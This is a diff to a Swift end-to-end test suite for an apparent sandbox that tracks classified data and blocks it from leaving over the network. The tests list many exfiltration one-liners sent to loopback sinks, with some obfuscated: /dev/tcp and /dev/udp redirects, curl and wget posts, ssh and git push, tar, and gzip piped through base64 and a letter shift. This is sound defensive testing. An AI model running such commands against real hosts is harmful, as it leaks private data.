@@ -4,10 +4,10 @@ import Testing
 
 /// Somebody outside who takes whatever comes: TCP and UDP on one port of loopback, and a unix socket.
 final class Sink: @unchecked Sendable {
-    // @unchecked: `bytes` is only touched through its atomic; the rest is constant.
+    // @unchecked: `thread` is set before anybody else knows of this; the rest guards itself.
     let port: Int
     let path: String
-    private let bytes = Atomic<Int>(0)
+    private let bytes = Mutex(Data())
     private let stop = Atomic<Bool>(false)
     private let tcp: Int32, udp: Int32, unix: Int32
     private var thread: Thread?
@@ -39,14 +39,15 @@ final class Sink: @unchecked Sendable {
         thread.start()
     }
 
-    /// How many bytes have come. Whoever sent them has ended, so they are all there.
-    func received() -> Int {
-        // What waits in the sockets is taken before we look.
-        drained.wait()
-        return bytes.load(ordering: .acquiring)
+    /// What has come. Whoever sent it has ended, so that all of it is in the sockets by now: everything there is taken first.
+    func received() -> Data {
+        let round = rounds.load(ordering: .acquiring)
+        _ = eventually { rounds.load(ordering: .acquiring) > round + 1 }
+        return bytes.withLock { $0 }
     }
 
-    private let drained = DispatchSemaphore(value: 0)
+    /// How often there was nothing to take.
+    private let rounds = Atomic<Int>(0)
 
     func end() { stop.store(true, ordering: .releasing) }
 
@@ -55,12 +56,10 @@ final class Sink: @unchecked Sendable {
         var buffer = [UInt8](repeating: 0, count: 1 << 16)
         while !stop.load(ordering: .acquiring) {
             var all = ([tcp, unix, udp] + open).map { pollfd(fd: $0, events: Int16(POLLIN), revents: 0) }
-            // Nothing has come for two looks in a row: everything is there.
-            if poll(&all, nfds_t(all.count), 50) == 0 {
-                if drained.wait(timeout: .now()) == .timedOut { drained.signal() } else { drained.signal() }
+            if poll(&all, nfds_t(all.count), 20) == 0 {
+                rounds.add(1, ordering: .acquiringAndReleasing)
                 continue
             }
-            _ = drained.wait(timeout: .now())
             for p in all where p.revents != 0 {
                 if p.fd == tcp || p.fd == unix {
                     let c = accept4(p.fd, nil, nil, O_CLOEXEC_)
@@ -68,7 +67,7 @@ final class Sink: @unchecked Sendable {
                     continue
                 }
                 let n = recv(p.fd, &buffer, buffer.count, Int32(MSG_DONTWAIT.rawValue))
-                if n > 0 { bytes.add(n, ordering: .acquiringAndReleasing) }
+                if n > 0 { bytes.withLock { $0.append(contentsOf: buffer[..<n]) } }
                 guard p.fd != udp else { continue }
                 if n > 0 {
                     let answer = Array("HTTP/1.0 200 OK\r\nContent-Length: 0\r\n\r\n".utf8)
@@ -91,6 +90,8 @@ struct Way: Sendable, CustomTestStringConvertible {
     let name: String
     let script: String
     var needs: [String] = []
+    /// What it says besides, before it has read: a greeting, an empty line, an archive with nothing in it.
+    var talks = false
     var testDescription: String { name }
 
     static let all: [Way] = shell + python + others
@@ -109,9 +110,9 @@ struct Way: Sendable, CustomTestStringConvertible {
         Way(name: "unlinked-file", script: "exec 3<> t; rm t; cat $F >&3; curl -s -m 10 --data-binary @/dev/fd/3 http://127.0.0.1:$P/", needs: ["curl"]),
         Way(name: "dev-tcp", script: "cat $F > /dev/tcp/127.0.0.1/$P"),
         Way(name: "dev-tcp-first", script: "exec 3<> /dev/tcp/127.0.0.1/$P; cat $F >&3"),
-        Way(name: "dev-tcp-builtin", script: "exec 3<> /dev/tcp/127.0.0.1/$P; read -r line < $F; echo \"$line\" >&3"),
+        Way(name: "dev-tcp-builtin", script: "exec 3<> /dev/tcp/127.0.0.1/$P; read -r line < $F; echo \"$line\" >&3", talks: true),
         Way(name: "dev-udp", script: "cat $F > /dev/udp/127.0.0.1/$P"),
-        Way(name: "tar", script: "tar cf - -C / ${F#/} > /dev/tcp/127.0.0.1/$P", needs: ["tar"]),
+        Way(name: "tar", script: "tar cf - -C / ${F#/} > /dev/tcp/127.0.0.1/$P", needs: ["tar"], talks: true),
         Way(name: "archive-then-send", script: "tar czf a.tgz -C / ${F#/}; mv a.tgz b; cat b > /dev/tcp/127.0.0.1/$P", needs: ["tar", "gzip"]),
         Way(name: "gzip", script: "gzip -c $F | base64 | tr A-Za-z N-ZA-Mn-za-m > /dev/tcp/127.0.0.1/$P", needs: ["gzip"]),
         Way(name: "copied", script: "cp $F c; cp c d; cat d > /dev/tcp/127.0.0.1/$P"),
@@ -128,12 +129,12 @@ struct Way: Sendable, CustomTestStringConvertible {
         Way(
             name: "daemon",
             script: "setsid bash -c 'for i in {1..2000}; do if [ -s spool ]; then cat spool > /dev/tcp/127.0.0.1/$P; break; fi; sleep 0.01; done' & cat $F > spool; wait"),
-        Way(name: "terminal", script: "script -qc \"cat $F\" /dev/null | cat > /dev/tcp/127.0.0.1/$P", needs: ["script"]),
+        Way(name: "terminal", script: "script -qc \"cat $F\" /dev/null | cat > /dev/tcp/127.0.0.1/$P", needs: ["script"], talks: true),
     ]
 
     private static let others: [Way] = [
         Way(name: "wget", script: "wget -q -T 10 -t 1 -O - --post-file=$F http://127.0.0.1:$P/", needs: ["wget"]),
-        Way(name: "ssh", script: "tar cf - -C / ${F#/} | ssh -F none -o ConnectTimeout=5 -o StrictHostKeyChecking=no -p $P x@127.0.0.1 cat", needs: ["ssh", "tar"]),
+        Way(name: "ssh", script: "tar cf - -C / ${F#/} | ssh -F none -o ConnectTimeout=5 -o StrictHostKeyChecking=no -p $P x@127.0.0.1 cat", needs: ["ssh", "tar"], talks: true),
         Way(
             name: "git-push",
             script: "git init -q r && cd r && cp $F f && git add f && git -c user.name=n -c user.email=e commit -qm m && git push -q git://127.0.0.1:$P/r HEAD:m",
@@ -221,7 +222,8 @@ extension EndToEnd {
             let place = try Place(account)
             defer { place.end() }
             let outcome = try place.run(way.script, file: place.classified)
-            #expect(place.sink.received() == 0, "\(outcome)")
+            let received = place.sink.received()
+            #expect(way.talks ? received.range(of: Data("SECRET".utf8)) == nil : received.isEmpty, "\(received) \(outcome)")
             let denied = try place.world.events("--decision", "deny")
             #expect(denied.contains { $0.rules.first == "pii-stays-home" }, "\(denied) \(outcome)")
         }
@@ -232,9 +234,122 @@ extension EndToEnd {
             let place = try Place(.own)
             defer { place.end() }
             let outcome = try place.run(way.script, file: place.open)
-            #expect(place.sink.received() > 0, "\(outcome)")
+            #expect(!place.sink.received().isEmpty, "\(outcome)")
             let denied = try place.world.events("--decision", "deny")
             #expect(denied.isEmpty, "\(denied) \(outcome)")
+        }
+
+        /// Why: from the file to the process that was stopped.
+        @Test(arguments: Account.all) func chain(account: Account) throws {
+            let place = try Place(account)
+            defer { place.end() }
+            _ = try place.run("cp $F c; gzip -c c > d; zcat d | curl -s --data-binary @- http://127.0.0.1:$P/", file: place.classified)
+            let stopped = try #require(try place.world.events("--decision", "deny").first { $0.rules.first == "pii-stays-home" })
+            let why = try place.world.native([Built.sandbox, "lineage", "--why-carries", "pid:\(stopped.pid)@last"])
+            let steps = why.out.split(separator: "\n").map(String.init)
+            #expect(why.code == 0 && steps.first?.contains("pii") == true, "\(why)")
+            for part in ["people.csv", "bin/cp (", "work/c`", "gzip (", "work/d`", "pipe", "curl ("] {
+                #expect(steps.contains { $0.contains(part) }, "\(part) \(why)")
+            }
+            let file = try place.world.native([Built.sandbox, "lineage", "--why-carries", place.world.work + "/d"])
+            #expect(file.out.contains("people.csv") && file.out.contains("gzip ("), "\(file)")
+        }
+
+        /// Copied and named again, and read by a session that begins later.
+        @Test(arguments: Account.all, ["cp $F kept", "mv $F kept", "ln $F kept", "gzip -c $F > other; mv other kept", "cat < $F | tee kept"])
+        func inALaterSession(account: Account, how: String) throws {
+            let place = try Place(account)
+            defer { place.end() }
+            let first = try place.run(how, file: place.classified)
+            #expect(first.code == 0, "\(first)")
+            let second = try place.run("mv kept renamed; cat renamed > /dev/tcp/127.0.0.1/$P", file: place.open)
+            #expect(place.sink.received().isEmpty, "\(second)")
+            let denied = try place.world.events("--decision", "deny")
+            #expect(denied.count == 1 && denied[0].rules.first == "pii-stays-home", "\(denied) \(second)")
+            // What is put in its place is another file.
+            let third = try place.run("rm renamed; cp $F renamed; cat renamed > /dev/tcp/127.0.0.1/$P", file: place.open)
+            #expect(!place.sink.received().isEmpty, "\(third)")
+        }
+
+        /// What stands beside classified data, or talks to who may have it, goes on. `C` is the cleared sink's port.
+        static let innocent = [
+            "cat $F > /dev/tcp/127.0.0.2/$C", "curl -s -m 10 --data-binary @$F http://127.0.0.2:$C/", "wc -l < $F > n; cat n > /dev/tcp/127.0.0.2/$C",
+            "cat $F | wc -l; echo hello > /dev/tcp/127.0.0.1/$P", "wc -l $F; echo hello > /dev/tcp/127.0.0.1/$P",
+            "gzip -c $F > kept; echo hello > /dev/tcp/127.0.0.1/$P", "cp $F kept & echo hello > /dev/tcp/127.0.0.1/$P; wait",
+            "sort $F | uniq | tail -1; date > d; cat d > /dev/tcp/127.0.0.1/$P", "ls -l ${F%/*}; stat $F; test -r $F; echo hello > /dev/tcp/127.0.0.1/$P",
+            "cmp $F $F && echo hello > /dev/tcp/127.0.0.1/$P", "grep -q SECRET $F && echo hello > /dev/tcp/127.0.0.1/$P",
+            "(cat $F; cat $F) > kept; cat $G > /dev/tcp/127.0.0.1/$P", "for i in 1 2 3 4 5; do cat $F | cat | cat | wc -c; done; cat $G > /dev/tcp/127.0.0.1/$P",
+            "tar cf a.tar -C / ${F#/}; tar cf b.tar -C / ${G#/}; cat b.tar > /dev/tcp/127.0.0.1/$P",
+            "git init -q r && cd r && cp $G f && git add f && git -c user.name=n -c user.email=e commit -qm m; wc -l $F; git push -q git://127.0.0.1:$P/r HEAD:m; true",
+            "printf 'all: x\\nx: ; cat $F > x\\n' > Makefile; make -s; cat $G > /dev/tcp/127.0.0.1/$P",
+            "/usr/bin/python3 -c 'import subprocess; subprocess.run([\"wc\", \"-l\", \"'$F'\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)'; cat $G > /dev/tcp/127.0.0.1/$P",
+            "mkfifo p; cat p > kept & cat $F > p; wait; cat $G > /dev/tcp/127.0.0.1/$P", "cp $F kept; rm kept; cp $G kept; cat kept > /dev/tcp/127.0.0.1/$P",
+            "sed -n 1p $F > kept; sleep 0 | cat $G > /dev/tcp/127.0.0.1/$P",
+        ]
+
+        @Test(arguments: innocent) func isNotStopped(script: String) throws {
+            let place = try Place(.own)
+            defer { place.end() }
+            let outcome = try place.run("G=\(place.open); C=\(place.cleared.port)\n" + script, file: place.classified)
+            #expect(!place.sink.received().isEmpty || !place.cleared.received().isEmpty, "\(outcome)")
+            let denied = try place.world.events("--decision", "deny")
+            #expect(denied.isEmpty, "\(denied) \(outcome)")
+        }
+
+        /// What a file holds, where a profile says to look.
+        @Test(arguments: Account.all) func byContent(account: Account) throws {
+            let place = try Place(account)
+            defer { place.end() }
+            let profile = try place.world.profile(
+                "content",
+                """
+                mode: enforce
+                files: { default: allow }
+                exec: { default: allow }
+                network: { default: allow }
+                data: { cards: { content: { in: ["${workspace}/inbox/**"], card_number: 1, email: 3 } } }
+                rules: [{ name: cards-stay, intent: net.egress, when: { carries: cards }, decide: deny }]
+                """)
+            let send = "> /dev/tcp/127.0.0.1/\(place.sink.port)"
+            let script = """
+                mkdir inbox; echo 'pay 4111 1111 1111 1111 now' > inbox/a; echo 'pay 4111 1111 1111 1112 now' > inbox/b
+                cat inbox/b \(send); cat inbox/a \(send); cp inbox/a c; mv inbox/a d; cat c \(send); cat d \(send)
+                """
+            let outcome = try place.world.sandboxed(["bash", "-c", script], profile: profile)
+            #expect(place.sink.received() == Data("pay 4111 1111 1111 1112 now\n".utf8), "\(outcome)")
+            #expect(try place.world.events("--decision", "deny").filter { $0.rules.first == "cards-stay" }.count == 3, "\(outcome)")
+            let why = try place.world.native([Built.sandbox, "lineage", "--why-carries", place.world.work + "/c"])
+            #expect(why.out.contains("1 card_number") && !why.out.contains("4111"), "\(why)")
+        }
+
+        /// A program that takes the class out of what it reads, as long as it is that program and nothing is put into it.
+        @Test(arguments: Account.all) func released(account: Account) throws {
+            let place = try Place(account)
+            defer { place.end() }
+            let root = place.world.root
+            try FileManager.default.copyItem(atPath: "/usr/bin/tr", toPath: root + "/bin/mask")
+            let sum = try place.world.native(["sha256sum", root + "/bin/mask"]).out.prefix(64)
+            for (hash, passes) in [(String(sum), true), (String(repeating: "0", count: 64), false)] {
+                let profile = try place.world.profile(
+                    "releasing",
+                    """
+                    mode: enforce
+                    files: { default: allow, deny: [], read: ["\(root)/bin/**"], write: ["\(root)/work/**", "\(root)/vault/**", "\(root)/data/**", "/dev/**"] }
+                    exec: { default: allow }
+                    network: { default: allow }
+                    data: { pii: { files: ["\(root)/data/pii/**"] } }
+                    releases: [{ program: "\(root)/bin/mask", classes: [pii], sha256: "\(hash)" }]
+                    rules: [{ name: pii-stays-home, intent: net.egress, when: { carries: pii }, decide: deny }]
+                    """.replacingOccurrences(of: "default: allow, deny: [], read: [", with: "default: deny, read: [\"/usr/**\", \"/etc/**\", \"/lib*/**\", \"/proc/**\", \"/tmp/**\", \"/bin/**\", "))
+                let mask = "env -i PATH=$PATH \(root)/bin/mask A-Za-z x < \(place.classified) > masked"
+                let send = "cat masked > /dev/tcp/127.0.0.1/\(place.sink.port)"
+                let before = place.sink.received().count
+                let outcome = try place.world.sandboxed(["bash", "-c", "rm -f masked; \(mask); \(send)"], profile: profile)
+                #expect((place.sink.received().count > before) == passes, "\(outcome)")
+                let preloaded = mask.replacingOccurrences(of: "PATH=$PATH", with: "PATH=$PATH LD_BIND_NOW=1")
+                let stopped = try place.world.sandboxed(["bash", "-c", "rm -f masked; \(preloaded); \(send)"], profile: profile)
+                #expect(place.sink.received().count == before + (passes ? 26 : 0), "\(stopped)")
+            }
         }
     }
 }
